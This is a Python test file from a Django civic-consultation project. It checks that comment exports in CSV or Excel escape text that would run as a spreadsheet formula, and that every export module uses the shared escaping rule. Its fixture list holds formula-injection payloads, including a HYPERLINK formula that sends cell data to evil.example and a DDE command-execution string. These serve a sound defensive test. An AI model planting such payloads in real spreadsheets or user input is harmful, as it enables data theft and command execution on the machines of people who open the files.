"""Issue 12, class 6: no text comes out of a CSV or Excel export as a live formula.

One rule (core.spreadsheets.cell) for every writer; a test below finds every module that writes CSV or Excel files
and fails for one that does not use it. The example: a resident's statement `=HYPERLINK(...)` in the online room's
comments.csv.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

import shangliang
from shangliang.core.spreadsheets import FORMULA_STARTS, cell, uncell
from shangliang.online import services
from shangliang.online.models import RoomStatus, Statement
from tests.online.rooms import _clear_cache, convenor, make_room, participant  # noqa: F401

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=2+2",
    "\r=3+3",
    "  =4+4",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_text_becomes_plain_text_and_comes_back(text):
    escaped = cell(text)
    assert escaped.startswith("'")
    assert uncell(escaped) == text


def test_plain_values_are_left_alone():
    assert cell(12) == 12 and cell(-3.5) == -3.5
    assert cell(None) == ""
    assert cell("议事室") == "议事室"
    assert cell("'quoted") == "'quoted" and uncell("'quoted") == "'quoted"
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.django_db
def test_the_online_rooms_comments_csv_has_no_live_formula(client, world):
    room = make_room(world)
    people = [participant(room, number=f"1360000{i:04d}") for i in range(len(HOSTILE))]
    for person, text in zip(people, HOSTILE, strict=True):
        statement = services.statement_add(participant=person, text=text)
        services.statement_moderate(actor=convenor(world), statement=statement, action="approve")
        services.vote_cast(participant=people[0], statement_id=statement.pk, value=1)
    client.force_login(world.users["convenor"])
    response = client.get(reverse("online:export", args=[room.pk]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        comments = z.read("comments.csv").decode("utf-8")
    bodies = [row["comment-body"] for row in csv.DictReader(io.StringIO(comments))]
    for body in bodies:
        assert body.lstrip(" ")[:1] not in FORMULA_STARTS, body
    # Read back by our own import, the statements are what the residents wrote.
    target = make_room(world, status=RoomStatus.DRAFT, seeds=())
    upload = SimpleUploadedFile("polis.zip", response.content, content_type="application/zip")
    imported_response = client.post(reverse("online:import", args=[target.pk]), {"archive": upload})
    assert imported_response.status_code == 302, imported_response.content.decode()[-3000:]
    imported = set(Statement.objects.filter(room=target).values_list("text", flat=True))
    assert {t.strip() for t in HOSTILE} <= imported


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter")


def test_every_module_that_writes_a_spreadsheet_uses_the_one_rule():
    """A new export is covered: a module that writes CSV or Excel must call core.spreadsheets."""
    root = Path(shangliang.__file__).parent
    offenders = []
    for path in root.rglob("*.py"):
        if "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        writes = WRITERS.search(source) and re.search(r"\.append\(|writerow|\.cell\(", source)
        if writes and "core.spreadsheets" not in source:
            offenders.append(str(path.relative_to(root)))
    assert not offenders
